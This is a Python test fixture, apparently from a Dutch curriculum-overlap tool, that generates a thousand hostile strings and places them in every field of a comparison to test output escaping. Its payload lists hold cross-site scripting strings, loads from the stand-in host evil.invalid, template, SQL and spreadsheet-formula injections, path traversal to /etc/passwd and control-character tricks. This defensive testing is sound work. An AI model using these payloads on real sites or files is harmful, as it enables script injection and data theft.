"""A thousand texts that would do harm, or hide something, where a page or table is made carelessly.

They are combined from parts, always the same thousand. Whatever runs sets `window.pwned`; whatever
loads asks evil.invalid; whatever opens is a dialog.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from dataclasses import replace

from align.model import (
    Basis,
    Curriculum,
    Decision,
    Decisions,
    Evidence,
    Item,
    Kind,
    NotCompared,
    Overlap,
    Pair,
    Place,
    Quote,
    Relation,
    Section,
    Side,
    Source,
    SourceWarning,
    Strength,
    Verdict,
)

_RUN = "window.pwned=1"
_AWAY = "https://evil.invalid/x"

#: What stands before, to break out of where a text stands.
OPENERS = (
    *("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "*/", "</p>", "</style>", "</script>"),
    *("</title></head>", "</template></details>", '"}]}', "\\", "\\u003c/script>", "<!--<script>"),
    *("\x00", "\u2028", "\ud800", "\u202e", "\ufeff", "\r\n\r\n", "\t=", "&quot;&gt;", "%22%3E"),
)
#: What would run, load, open or be worked out.
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_AWAY}>",
    f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{_RUN[7:]}</script>'></iframe>",
    f"<object data={_AWAY}></object><embed src={_AWAY}>",
    f"<body onload={_RUN}><input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<a href='javascript:{_RUN}' id=gegevens>klik</a>",
    f"javascript:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    f" onmouseover={_RUN} autofocus onfocus={_RUN} x=",
    f"<style>@import '{_AWAY}'; * {{ background: url({_AWAY}); display: none }}</style>",
    f"<link rel=stylesheet href={_AWAY}><link rel=prefetch href={_AWAY}>",
    f"<base href={_AWAY}><meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<form action={_AWAY}><button>x</button></form><dialog open>x</dialog>",
    "<script>alert(1);confirm(1);prompt(1);print()</script>",
    f"{{{{ cycler.__init__.__globals__ }}}} {{% include '/etc/passwd' %}} ${{{_RUN}}} #{{{_RUN}}}",
    "%(x)s %s %n {0} {left} {{7*7}} <%= 7*7 %> $& $` $'",
    '=HYPERLINK("https://evil.invalid/x";"klik")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "__proto__ constructor toString hasOwnProperty",
    "'; DROP TABLE paren; --",
    "&lt;script&gt;&#x3c;img src=x onerror=1&#x3e;&amp;amp;",
    "\u202egro.elpmaxe\u202c \u2066verborgen\u2069 \u200f\u200b\u2060",
    "bel\x07 terug\x08 wis\x7f escape\x1b[2J nul\x00",
    "half\ud800 hoog\udbff laag\udc00 \ufffe\uffff \U0010ffff",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307 \U0001f469\u200d\U0001f3eb",
    "regel\u2028scheiding\u2029alinea\x85volgende\x0bverticaal\x0cblad",
    "CON NUL ../../../../etc/passwd C:\\Windows \\\\server\\deel",
)
#: What stands behind it.
CLOSERS = ("", " naar de keuken", "<!--", "'\"`<", "\x00\udfff")
AMOUNT = 1_000
LONG = 100_000
_SETTINGS = ("kwalificatie", "domein", "encoder", "weights", "quality_set", "quality_note")


def hostile_texts() -> tuple[str, ...]:
    """A thousand of them, each another; the last has a hundred thousand characters."""
    combined = itertools.product(CLOSERS, OPENERS, PAYLOADS)
    every = dict.fromkeys(f"{before}{what}{after}" for after, before, what in combined)
    step = len(every) // AMOUNT
    chosen = list(every)[::step][: AMOUNT - 1]
    return (*chosen, ("<b>" + chosen[0]) * (LONG // len("<b>" + chosen[0]) + 1))


def every_part() -> str:
    """All openers and payloads as one text, for pages of which one text is put in every field."""
    return " ".join((*OPENERS, *PAYLOADS))


class _Texts:
    """Gives out the texts in turn, the long one once; `given` are those that were."""

    def __init__(self) -> None:
        *short, self.long = hostile_texts()
        self._turn = itertools.cycle(short)
        self.given: set[str] = set()

    def __call__(self) -> str:
        text = next(self._turn)
        self.given.add(text)
        return text


def hostile_overlap(units: int = 100) -> tuple[Overlap, Decisions, set[str]]:
    """A comparison with one of them in every field, decisions on it, and which were used."""
    text = _Texts()
    left, right = _left(text, units), _right(text, units)
    pairs = tuple(_pair(left, right, number, text) for number in range(units))
    lefts, rights = (tuple(f"{side}{n}" for n in range(units)) for side in ("d", "w"))
    overlap = Overlap(
        left=left,
        right=(right,),
        left_units=lefts,
        right_units=rights,
        generic_units=frozenset(),
        pairs=pairs,
        left_coverage=dict.fromkeys(lefts, 0.5),
        right_coverage=dict.fromkeys(rights, 0.5),
        not_compared=(NotCompared("e1-0", text()), NotCompared(text(), text())),
        settings={
            "leerweg": "kb",
            "unit": (text(), text()),
            **{name: text() for name in _SETTINGS},
            text(): text(),
        },
    )
    decided = tuple(_decision(overlap, pair, text) for pair in pairs[: units // 4])
    return overlap, Decisions(settled=decided), text.given


def _item(key: str, kind: Kind, parent: str, text: _Texts, **more) -> Item:
    place = Place(text(), path=text(), record=text())
    return Item(key, kind, text(), text(), parent, place, **more)


def _source(text: _Texts, sha: str) -> Source:
    return Source(text(), text(), text(), text(), sha * 64, text())


def _left(text: _Texts, units: int) -> Curriculum:
    items = [_item("pr", Kind.PROFIEL, "", text), _item("m", Kind.MODULE, "pr", text)]
    for number in range(units):
        items.append(_item(f"d{number}", Kind.DEELTAAK, "m", text))
        items += [_item(f"e{number}-{n}", Kind.EINDTERM, f"d{number}", text) for n in range(2)]
    items[-1] = replace(items[-1], title=text.long)
    warning = SourceWarning(Place(text(), record=text()), text())
    return Curriculum(_source(text, "a"), Side.VMBO, tuple(items), (warning,))


def _right(text: _Texts, units: int) -> Curriculum:
    items = [
        _item("do", Kind.DOSSIER, "", text, crebo="99001"),
        _item("q", Kind.KWALIFICATIE, "do", text, crebo="99011", niveaus=(3,)),
        _item("k", Kind.KERNTAAK, "do", text),
    ]
    for number in range(units):
        place = Place(text(), line=number)
        sections = tuple(Section(text(), text(), place) for _ in range(2))
        items.append(_item(f"w{number}", Kind.WERKPROCES, "k", text, sections=sections))
    return Curriculum(_source(text, "b"), Side.MBO, tuple(items), ())


def _pair(left: Curriculum, right: Curriculum, number: int, text: _Texts) -> Pair:
    eindterm, werkproces = left.by_id[f"e{number}-0"], right.by_id[f"w{number}"]
    section = werkproces.sections[0]
    quotes = (
        Quote(eindterm.id, "titel", eindterm.title, ((0, 3),), words=(text(),)),
        Quote(werkproces.id, section.label, section.text, ((0, 3),), words=(text(),)),
    )
    elsewhere = Quote("k", text(), text(), ((0, 2),), words=(text(),))
    overlap = number % 3 != 0
    return Pair(
        left=f"d{number}",
        right=werkproces.id,
        score=0.5,
        probability=0.8 if overlap else 0.2,
        overlap=overlap,
        relation=Relation.VERDIEPING if overlap else None,
        strength=Strength.STERK if overlap else Strength.ZWAK,
        generic=False,
        evidence=(Evidence(*quotes, 0.9), Evidence(quotes[0], elsewhere, 0.4)),
        relation_reason=text(),
        left_covered=0.5,
        right_covered=0.25,
        channels={"lemma": 0.6, text(): 0.4},
        shared=(text(), text()),
    )


def _decision(overlap: Overlap, pair: Pair, text: _Texts) -> Decision:
    sides = (overlap.items[pair.left], overlap.items[pair.right])
    left, right = (Basis(i.id, i.code, i.title, text(), text()) for i in sides)
    return Decision(left, right, Verdict.AKKOORD, remark=text(), by=text(), on=text())


def overlap_fields(overlap: Overlap) -> Iterator[tuple[str, str]]:
    """(id of a unit, a text of it that a page must show): titles, codes and whole sections."""
    for unit in (*overlap.left_units, *overlap.right_units):
        item = overlap.items[unit]
        yield unit, item.code
        yield unit, item.title
        yield from ((unit, section.text) for section in item.sections)
